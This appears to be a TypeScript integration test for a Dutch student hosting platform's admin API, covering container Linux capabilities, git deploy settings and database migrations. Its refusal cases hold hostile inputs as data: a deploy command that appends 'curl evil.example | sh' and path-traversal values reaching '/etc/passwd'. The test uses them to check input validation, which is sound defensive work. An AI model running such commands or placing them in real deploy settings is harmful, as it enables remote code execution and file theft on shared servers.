/**
 * Linux capabilities per image option (issue 16): the admin images API shows and edits them
 * (admins only, zod-checked: 422 for a name outside the allow-list), a project's container is
 * created with its option's set, and migration 0010 gives options that existed before it the set
 * every container had until then. Real control plane and PostgreSQL, the fake agent.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CreateContainerRequest } from '@devplein/proto/container';
import { migrate } from '../../../control-plane/src/db/knex.ts';
import { migrationSource } from '../../../control-plane/src/db/migration-source.ts';
import type { DockerImageOption } from '@devplein/contract/dockers';
import { createImageOption, listImageOptions } from '@devplein/contract/http/docker-images';
import { call } from '../../support/clients/endpoint-calls.ts';
import { createTestDatabase } from '../../support/services/database.ts';
import type { HttpSession } from '../../support/clients/http-session.ts';
import { ADMIN, DEVELOPER, DOCENT, IMAGE, NO_GROUP, NOT_ACTIVATED, STUDENT, startHostingStack, type HostingStack } from '../../support/stacks/hosting-stack.ts';

/** What every container had before this setting: Docker's default set minus NET_RAW, MKNOD, SETFCAP. */
const PREVIOUS_SET = ['CHOWN', 'DAC_OVERRIDE', 'FOWNER', 'FSETID', 'KILL', 'SETGID', 'SETUID', 'SETPCAP', 'NET_BIND_SERVICE', 'SYS_CHROOT', 'AUDIT_WRITE'];

let stack: HostingStack;
let admin: HttpSession;

beforeAll(async () => {
  stack = await startHostingStack();
  admin = await stack.as(ADMIN);
});

afterAll(async () => {
  await stack?.stop();
});

const options = async () => call(admin, listImageOptions, {});

describe('capabilities of image options', () => {
  it('lists each option with its capabilities; the seeded static site needs none', async () => {
    const list = await options();
    expect(list.find((option) => option.id === IMAGE.static)?.capabilities).toEqual([]);
    for (const option of list) expect(option.capabilities.every((name) => PREVIOUS_SET.includes(name)), option.name).toBe(true);
  });

  it('lets admins change them (audited); others get 401/403; a name outside the allow-list is a 422 with field errors', async () => {
    const [row] = await stack.database.knex('docker_images').insert({ name: 'Caps (test)', image: 'devplein/caps:1' }).returning<{ id: number }[]>('id');
    const id = Number(row?.id);
    const path = `/api/admin/dockers/images/${id}`;

    expect((await (await stack.anonymous()).api('PATCH', path, { capabilities: ['CHOWN'] })).status).toBe(401);
    for (const email of [NOT_ACTIVATED, STUDENT, DEVELOPER]) {
      expect((await (await stack.as(email)).api('PATCH', path, { capabilities: ['CHOWN'] })).status, email).toBe(403);
    }

    for (const bad of [['SYS_ADMIN'], ['CHOWN', 'NET_RAW'], ['ALL'], ['CAP_CHOWN'], ['chown'], 'CHOWN', [7]]) {
      const answer = await admin.json<{ errors: Record<string, string[]> }>('PATCH', path, { capabilities: bad });
      expect(answer.status, JSON.stringify(bad)).toBe(422);
      expect(answer.body.errors, JSON.stringify(bad)).toEqual({ capabilities: [expect.stringMatching(/Onbekend recht|lijst/)] });
    }
    const missing = await admin.json<{ errors: Record<string, string[]> }>('PATCH', path, {});
    expect(missing.status).toBe(422);
    expect(Object.keys(missing.body.errors)).toEqual(['body']);
    // Nothing changed by the refusals: the migration's default is still there.
    expect((await options()).find((option) => option.id === id)?.capabilities).toEqual(PREVIOUS_SET);

    const changed = await admin.json<DockerImageOption>('PATCH', path, { capabilities: ['SETUID', 'CHOWN', 'SETUID'] });
    expect(changed).toMatchObject({ status: 200, body: { id, name: 'Caps (test)', capabilities: ['CHOWN', 'SETUID'] } });
    const docent = await (await stack.as(DOCENT)).json<DockerImageOption>('PATCH', path, { capabilities: [] });
    expect(docent).toMatchObject({ status: 200, body: { capabilities: [] } });
    expect((await options()).find((option) => option.id === id)?.capabilities).toEqual([]);

    const audit = await stack.database.knex('audit_log').where({ subject_type: 'docker_image', subject_id: String(id), action: 'docker-image.capabilities' }).orderBy('id').select('before', 'after');
    expect(audit).toEqual([
      { before: { capabilities: PREVIOUS_SET }, after: { capabilities: ['CHOWN', 'SETUID'] } },
      { before: { capabilities: ['CHOWN', 'SETUID'] }, after: { capabilities: [] } },
    ]);
    expect((await admin.json('PATCH', '/api/admin/dockers/images/987654', { capabilities: [] })).status).toBe(404);
  });

  it('takes them when an option is added (the previous set when none are given) and refuses unknown ones there too', async () => {
    const refused = await admin.json<{ errors: Record<string, string[]> }>('POST', createImageOption.path, { name: 'Slecht', image: 'devplein/slecht:1', capabilities: ['NET_ADMIN'] });
    expect(refused.status).toBe(422);
    expect(Object.keys(refused.body.errors)).toEqual(['capabilities']);
    expect(await stack.database.knex('docker_images').where('name', 'Slecht').first('id')).toBeUndefined();

    const chosen = await admin.json<DockerImageOption>('POST', createImageOption.path, { name: 'Alleen poort', image: 'devplein/poort:1', capabilities: ['NET_BIND_SERVICE'] });
    expect(chosen).toMatchObject({ status: 201, body: { capabilities: ['NET_BIND_SERVICE'] } });
    const unchosen = await admin.json<DockerImageOption>('POST', createImageOption.path, { name: 'Zoals voorheen', image: 'devplein/voorheen:1' });
    expect(unchosen).toMatchObject({ status: 201, body: { capabilities: PREVIOUS_SET } });
  });

  it('sends the option\'s capabilities with CreateContainer', async () => {
    await admin.json('PATCH', `/api/admin/dockers/images/${IMAGE.node}`, { capabilities: ['SETGID', 'SETUID'] });
    const project = await stack.project({ name: 'caps-project', image: IMAGE.node, members: [NO_GROUP] });
    const before = stack.agent.callsOf('createContainer').length;
    expect((await (await stack.as(NO_GROUP)).json('POST', '/api/user/dockers', { id: project.id })).status).toBe(200);
    const calls = stack.agent.callsOf('createContainer').slice(before);
    expect(calls).toHaveLength(1);
    expect((calls[0]?.request as CreateContainerRequest).capabilities).toEqual({ add: ['SETGID', 'SETUID'] });
  });
});

describe('git deploy settings of image options (issue 23)', () => {
  const none = { webRoot: null, afterUpdate: null, keepPaths: [], buildCommand: null, buildOutput: null };

  it('lists where each seeded option puts deployed code: /www for the static site, /var/www/html keeping uploads and settings for WordPress, none for Node', async () => {
    const list = await options();
    expect(list.find((option) => option.id === IMAGE.static)?.deploy).toEqual({ ...none, webRoot: '/www' });
    expect(list.find((option) => option.id === IMAGE.wordpress)?.deploy).toEqual({ ...none, webRoot: '/var/www/html', keepPaths: ['wp-content/uploads', 'wp-config.php', '.env'] });
    expect(list.find((option) => option.id === IMAGE.node)?.deploy).toEqual(none);
  });

  it('lets admins change them (normalized, audited, capabilities untouched); others get 401/403; bad paths and commands are a 422 per field that changes nothing', async () => {
    const [row] = await stack.database.knex('docker_images').insert({ name: 'Deploy (test)', image: 'devplein/deploy:1', capabilities: ['CHOWN'] }).returning<{ id: number }[]>('id');
    const id = Number(row?.id);
    const path = `/api/admin/dockers/images/${id}`;
    const settings = { webRoot: '/var/www/html/', afterUpdate: ' composer install --no-dev ', keepPaths: ['.env', 'storage/', '.env'], buildCommand: 'npm run build', buildOutput: 'dist' };

    expect((await (await stack.anonymous()).api('PATCH', path, { deploy: settings })).status).toBe(401);
    for (const email of [NOT_ACTIVATED, STUDENT, DEVELOPER]) {
      expect((await (await stack.as(email)).api('PATCH', path, { deploy: settings })).status, email).toBe(403);
    }
    const refusals: Array<[unknown, string]> = [
      [{ webRoot: '/etc' }, 'deploy.webRoot'],
      [{ webRoot: '/var/www/../../etc' }, 'deploy.webRoot'],
      [{ webRoot: 'www' }, 'deploy.webRoot'],
      [{ keepPaths: ['../../etc/passwd'] }, 'deploy.keepPaths'],
      [{ afterUpdate: 'composer install\ncurl evil.example | sh' }, 'deploy.afterUpdate'],
      [{ buildCommand: 'npm run build' }, 'deploy.buildOutput'],
      ['/var/www/html', 'deploy'],
    ];
    for (const [deploy, field] of refusals) {
      const answer = await admin.json<{ errors: Record<string, string[]> }>('PATCH', path, { deploy });
      expect(answer.status, JSON.stringify(deploy)).toBe(422);
      expect(Object.keys(answer.body.errors), JSON.stringify(deploy)).toEqual([field]);
    }
    expect((await options()).find((option) => option.id === id)?.deploy).toEqual(none);

    const changed = await admin.json<DockerImageOption>('PATCH', path, { deploy: settings });
    const saved = { webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev', keepPaths: ['.env', 'storage'], buildCommand: 'npm run build', buildOutput: 'dist' };
    expect(changed).toMatchObject({ status: 200, body: { id, capabilities: ['CHOWN'], deploy: saved } });
    // Empty fields turn git deploy off again.
    const off = await admin.json<DockerImageOption>('PATCH', path, { deploy: { webRoot: '', afterUpdate: '', keepPaths: [] } });
    expect(off).toMatchObject({ status: 200, body: { deploy: none } });

    const audit = await stack.database.knex('audit_log').where({ subject_type: 'docker_image', subject_id: String(id), action: 'docker-image.deploy' }).orderBy('id').select('before', 'after');
    expect(audit).toHaveLength(2);
    expect(audit[0]).toMatchObject({ before: { deploy_web_root: null }, after: { deploy_web_root: '/var/www/html', deploy_keep_paths: ['.env', 'storage'] } });
    expect(audit[1]).toMatchObject({ before: { deploy_web_root: '/var/www/html' }, after: { deploy_web_root: null, deploy_keep_paths: [] } });
    expect((await admin.json('PATCH', '/api/admin/dockers/images/987654', { deploy: settings })).status).toBe(404);
  });

  it('takes them when an option is added, none when not given', async () => {
    const made = await admin.json<DockerImageOption>('POST', createImageOption.path, { name: 'Laravel', image: 'devplein/laravel:11', deploy: { webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev' } });
    expect(made).toMatchObject({ status: 201, body: { deploy: { ...none, webRoot: '/var/www/html', afterUpdate: 'composer install --no-dev' } } });
    const plain = await admin.json<DockerImageOption>('POST', createImageOption.path, { name: 'Zonder deploy', image: 'devplein/zonder:1' });
    expect(plain).toMatchObject({ status: 201, body: { deploy: none } });
    const refused = await admin.json<{ errors: Record<string, string[]> }>('POST', createImageOption.path, { name: 'Fout pad', image: 'devplein/fout:1', deploy: { webRoot: '/' } });
    expect(refused.status).toBe(422);
    expect(Object.keys(refused.body.errors)).toEqual(['deploy.webRoot']);
    expect(await stack.database.knex('docker_images').where('name', 'Fout pad').first('id')).toBeUndefined();
  });
});

describe('migration 0017_image_deploy_settings', () => {
  it('gives the static busybox options /www and WordPress options /var/www/html with what they keep; others none', async () => {
    const database = await createTestDatabase();
    try {
      const { knex } = database;
      await knex.migrate.down({ migrationSource, name: '0017_image_deploy_settings' });
      expect(await knex.schema.hasColumn('docker_images', 'deploy_web_root')).toBe(false);
      await knex('docker_images').insert([
        { name: 'Oud statisch', image: 'devplein/static:1.0' },
        { name: 'Oude WordPress', image: 'school/wp:5', wordpress: true },
        { name: 'Oud PHP', image: 'school/php:7' },
      ]);
      expect(await migrate(knex)).toEqual(['0017_image_deploy_settings']);
      const rows = await knex('docker_images').whereIn('name', ['Oud statisch', 'Oude WordPress', 'Oud PHP']).orderBy('name').select('name', 'deploy_web_root', 'deploy_keep_paths');
      expect(rows).toEqual([
        { name: 'Oud PHP', deploy_web_root: null, deploy_keep_paths: [] },
        { name: 'Oud statisch', deploy_web_root: '/www', deploy_keep_paths: [] },
        { name: 'Oude WordPress', deploy_web_root: '/var/www/html', deploy_keep_paths: ['wp-content/uploads', 'wp-config.php', '.env'] },
      ]);
    } finally {
      await database.destroy();
    }
  });
});

describe('migration 0010_image_capabilities', () => {
  it('gives options that existed before it the set every container had until then', async () => {
    const database = await createTestDatabase();
    try {
      const { knex } = database;
      // Back to before 0010, with an option made then.
      await knex.migrate.down({ migrationSource, name: '0010_image_capabilities' });
      expect(await knex.schema.hasColumn('docker_images', 'capabilities')).toBe(false);
      await knex('docker_images').insert({ name: 'Van vroeger', image: 'devplein/vroeger:1', ssh: true });
      expect(await migrate(knex)).toEqual(['0010_image_capabilities']);
      expect(await knex('docker_images').where('name', 'Van vroeger').first('capabilities')).toEqual({ capabilities: PREVIOUS_SET });
    } finally {
      await database.destroy();
    }
  });
});
